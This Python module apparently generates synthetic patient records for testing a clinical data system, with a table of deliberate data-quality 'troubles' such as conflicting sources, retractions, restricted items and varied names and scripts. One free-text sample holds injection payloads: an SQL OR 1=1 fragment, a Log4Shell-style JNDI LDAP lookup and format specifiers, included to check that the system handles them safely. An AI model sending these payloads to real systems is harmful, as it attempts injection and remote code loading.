"""The invented people and the troubles of real data that they show.

A trouble is a difficulty of real data, shown on purpose. Person i of a seed is the same in every population.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date
from random import Random
from typing import Literal, NamedTuple

from onestory.sample.chance import days_ago, nhs_numbers, random_stream
from onestory.sample.network import PRACTICES, SourceSystem


class Trouble(NamedTuple):
    """A trouble, shown by each person whose index is `offset` modulo `period`.

    The first twenty people show all troubles between them; a larger population has them in proportion.
    """

    offset: int
    period: int
    meaning: str


TROUBLES: dict[str, Trouble] = {
    "same-fact": Trouble(0, 1, "the same condition or allergy from several sources, with other ids and texts"),
    "unusual-text": Trouble(
        0, 5, "free text with emoji, combining marks, right-to-left script or reference look-alikes"
    ),
    "moved-practice": Trouble(0, 20, "a practice that the person has left, whose repeat medicine nobody has ended"),
    "superseded-number": Trouble(1, 100, "an NHS number that the demographic authority says is superseded"),
    "conflict-allergy": Trouble(2, 20, "an allergy is active for one source and refuted by another"),
    "wrong-person": Trouble(3, 100, "a resource first filed under the person before, later stated for this one"),
    "conflict-dose": Trouble(4, 20, "two sources give different doses of one medicine"),
    "retraction": Trouble(5, 20, "a statement taken back with DELETE"),
    "conflict-condition": Trouble(6, 20, "a condition is active for one source and resolved for another"),
    "sensitive": Trouble(7, 20, "a restricted (R) item of sexual health"),
    "protected-address": Trouble(8, 50, "a person whose address and practice must not be shown"),
    "late-statement": Trouble(9, 20, "an older statement published after a newer one"),
    "repeated-statement": Trouble(10, 20, "the same Bundle, byte for byte, published again"),
    "correction": Trouble(11, 20, "a newer statement of the same resource with other content"),
    "deceased": Trouble(12, 50, "a person who has died"),
    "complete-list": Trouble(13, 20, "a source's whole list of allergies, without one that it stated before"),
    "entered-in-error": Trouble(14, 20, "a statement withdrawn by status entered-in-error"),
    "very-restricted": Trouble(15, 100, "a very restricted (V) item"),
    "about-me": Trouble(16, 5, "About Me in the person's own words, and reasonable adjustments"),
    "safeguarding": Trouble(17, 50, "a child protection flag"),
    "resuscitation": Trouble(18, 20, "a ReSPECT plan with a decision not to attempt resuscitation"),
    "care-package": Trouble(19, 20, "a package of adult social care"),
}


def person_troubles(index: int) -> tuple[str, ...]:
    """The troubles of this person, in the order of the table, without those that everybody has."""
    return tuple(
        name
        for name, trouble in TROUBLES.items()
        if trouble.period > 1 and index % trouble.period == trouble.offset % trouble.period
    )


class InventedNames(NamedTuple):
    """Names of one culture. `weight` is its share: an English practice list has more than Latin letters."""

    weight: int
    female: tuple[str, ...]
    male: tuple[str, ...]
    family: tuple[str, ...]


NAMES: tuple[InventedNames, ...] = (
    InventedNames(
        60,
        ("Margaret", "Dorothy", "Susan", "Patricia", "Emily", "Grace", "Olivia", "Jean", "Hazel", "Ruth"),
        ("George", "Arthur", "Thomas", "Alan", "Derek", "Oliver", "Harry", "Stanley", "Peter", "Leonard"),
        (
            "Ashdown",
            "Barrowby",
            "Carrick",
            "Dunmore",
            "Ellerby",
            "Fenwick",
            "Garside",
            "Hollis",
            "O'Hara",
            "St. John-Lee",
        ),
    ),
    InventedNames(
        10,
        ("Siân", "Gwenllïan", "Angharad", "Mairwen", "Ffion"),
        ("Llŷr", "Gruffydd", "Siôn", "Emrys", "Iorwerth"),
        ("Ŵyn", "Prydderch", "ap Gwilym", "Llywelyn", "Môn"),
    ),
    InventedNames(
        8,
        ("Małgorzata", "Zofia", "Agnieszka", "Bożena"),
        ("Łukasz", "Paweł", "Wojciech", "Zbigniew"),
        ("Wiśniewski", "Żółkiewski", "Dąbrowski", "Święch"),
    ),
    InventedNames(8, ("فاطمة", "ليلى", "مريم"), ("محمد", "يوسف", "عبد الرحمن"), ("الزهراني", "حداد", "بن علي")),
    InventedNames(6, ("秀英", "小燕", "丽华"), ("伟", "建国", "志強"), ("王", "欧阳", "𠮷田")),
    InventedNames(
        8,
        ("Harpreet", "Priya", "Nasreen", "Shabnam"),
        ("Gurdeep", "Imran", "Rajesh", "Tariq"),
        ("Kaur", "Begum", "Chaudhry", "Patel"),
    ),
    # Decomposed on purpose: letters with combining marks must come back unchanged.
    InventedNames(
        4,
        ("O\u0323la\u0301bi\u0301si\u0301", "Ngo\u0323zi", "Sine\u0301ad"),
        ("Ade\u0301wale\u0301", "Tu\u0323\u0301nde\u0301", "Se\u0301amus"),
        ("Ade\u0301ye\u0323mi\u0301", "O\u0301 Su\u0301illeabha\u0301in", "Nwo\u0323su"),
    ),
)

STREETS: tuple[str, ...] = (
    "Lantern Lane", "Quay Road", "Chapel Brow", "Mill Race", "Orchard Close", "Heol y Bont", "Weaver's Yard",
    "Moor End", "St Bride's Hill", "Ropewalk", "Tannery Court", "Gull Terrace",
)  # fmt: skip

TOWNS: tuple[str, ...] = ("Harbourton", "Upper Moor", "Weirbridge", "Dalesend")
POSTCODE_LETTERS = "ABDEFGHJLNPQRSTUWXYZ"

Age = Literal["child", "adult", "frail"]


@dataclass(frozen=True, slots=True)
class Person:
    """The true facts of a person, from which each source states its own part."""

    seed: int
    index: int
    nhs_number: str
    superseded: str
    """The NHS number that the person had before; empty for nearly everyone."""
    family: str
    given: str
    gender: Literal["female", "male"]
    born: date
    died: date | None
    age: Age
    practice: SourceSystem
    former_practice: SourceSystem | None
    """The practice of the registration before `registered_since`; None for nearly everyone."""
    registered_since: date | None
    """The first day of the registration with `practice`; None without a former practice."""
    address: tuple[str, str]
    """Street and town."""
    postcode: str
    phone: str
    weight: float
    """In kilograms; measurements differ from it by up to 2 kg."""
    protected: bool
    """Address and practice must not be shown (v3-Confidentiality R on the Patient)."""
    troubles: tuple[str, ...]
    """The names of the troubles that this person shows, as in `TROUBLES`."""

    @property
    def name(self) -> str:
        return f"{self.given} {self.family}"


def make_person(seed: int, index: int) -> Person:
    """Person `index` of this seed. Raises `ValueError` past the largest population."""
    chance = random_stream(seed, "person", index)
    troubles = person_troubles(index)
    current, former = nhs_numbers(seed, index)
    gender: Literal["female", "male"] = "female" if chance.random() < 0.52 else "male"
    given, family = _name(chance, gender)
    age = _age(chance, troubles)
    return Person(
        seed=seed,
        index=index,
        nhs_number=current,
        superseded=former if "superseded-number" in troubles else "",
        family=family,
        given=given,
        gender=gender,
        born=days_ago(_age_in_days(chance, age)),
        died=days_ago(chance.randrange(6, 14)) if "deceased" in troubles else None,
        age=age,
        practice=PRACTICES[index % len(PRACTICES)],
        former_practice=PRACTICES[(index + 1) % len(PRACTICES)] if "moved-practice" in troubles else None,
        registered_since=_registration_date(seed, index) if "moved-practice" in troubles else None,
        address=(f"{chance.randrange(1, 180)} {chance.choice(STREETS)}", chance.choice(TOWNS)),
        postcode=f"ZZ99 {chance.randrange(10)}{''.join(chance.choice(POSTCODE_LETTERS) for _ in 'ab')}",
        phone=_phone(chance),
        weight=chance.uniform(14, 52) if age == "child" else chance.uniform(48, 96),
        protected="protected-address" in troubles,
        troubles=troubles,
    )


def _name(chance: Random, gender: str) -> tuple[str, str]:
    (culture,) = chance.choices(NAMES, weights=[culture.weight for culture in NAMES])
    return chance.choice(culture.female if gender == "female" else culture.male), chance.choice(culture.family)


_ADULT_TROUBLES = ("sensitive", "very-restricted", "care-package", "conflict-dose", "conflict-condition")


def _age(chance: Random, troubles: tuple[str, ...]) -> Age:
    drawn: Age = "frail" if (roll := chance.random()) < 0.4 else "adult" if roll < 0.85 else "child"
    if "resuscitation" in troubles or "deceased" in troubles:
        return "frail"
    if "safeguarding" in troubles:
        return "child"
    return "adult" if drawn == "child" and any(name in _ADULT_TROUBLES for name in troubles) else drawn


def _age_in_days(chance: Random, age: Age) -> int:
    youngest, eldest = {"child": (2, 17), "adult": (19, 70), "frail": (76, 99)}[age]
    return chance.randrange(youngest * 366, eldest * 365)


def _registration_date(seed: int, index: int) -> date:
    return days_ago(random_stream(seed, "moved", index).randrange(100, 300))


def _phone(chance: Random) -> str:
    """A number from the ranges that Ofcom reserves for drama."""
    return f"{chance.choice(('01632 960', '07700 900'))}{chance.randrange(1000):03d}"


UNUSUAL_TEXTS: tuple[str, ...] = (
    'Prefers to be called Mags 😀👩‍👩‍👧‍👦; very worried about "the tablets".',
    'Copied from letter: see "reference":"Patient/123" and {"resourceType":"Patient","id":"9000000009"}.',
    "Café visits weekly; naïve to opioids; e\u0301 decomposed and \u00e9 composed are both here.",
    "المريضة تفضل التحدث بالعربية. Speaks Arabic at home.",
    "Mixed direction: \u202bשלום\u202c then back; zero\u200bwidth\u200djoiner\u200cs and a\u00a0hard space.",
    "Rare ideograph 𠮷 and 𝔹𝕡 written by OCR; family name as on passport 𠮷田.",
    'Path C:\\Users\\gp\\scan.tif; quote " backslash \\ slash / tab\there; <b>not markup</b> & &amp;',
    "Mae'r claf yn dymuno gohebiaeth yn Gymraeg: ŵ ŷ â ê î ô û.",
    "Line one\nLine two\r\nLine three; urn:uuid:00000000-0000-4000-8000-000000000000 is only text.",
    "Dose ½ tablet ≤ 2× daily, temp 38.5℃, ⚠️ do not crush; ’curly’ – dashes — and … dots.",
    "' OR 1=1; -- and ${jndi:ldap://example.org/a} and %s %n {0} were in the referral letter.",
    "Zażółć gęślą jaźń. Córka odbiera telefon po 17:00.",
)
"""Free text as people really type it. Each of these has broken a clinical system somewhere."""
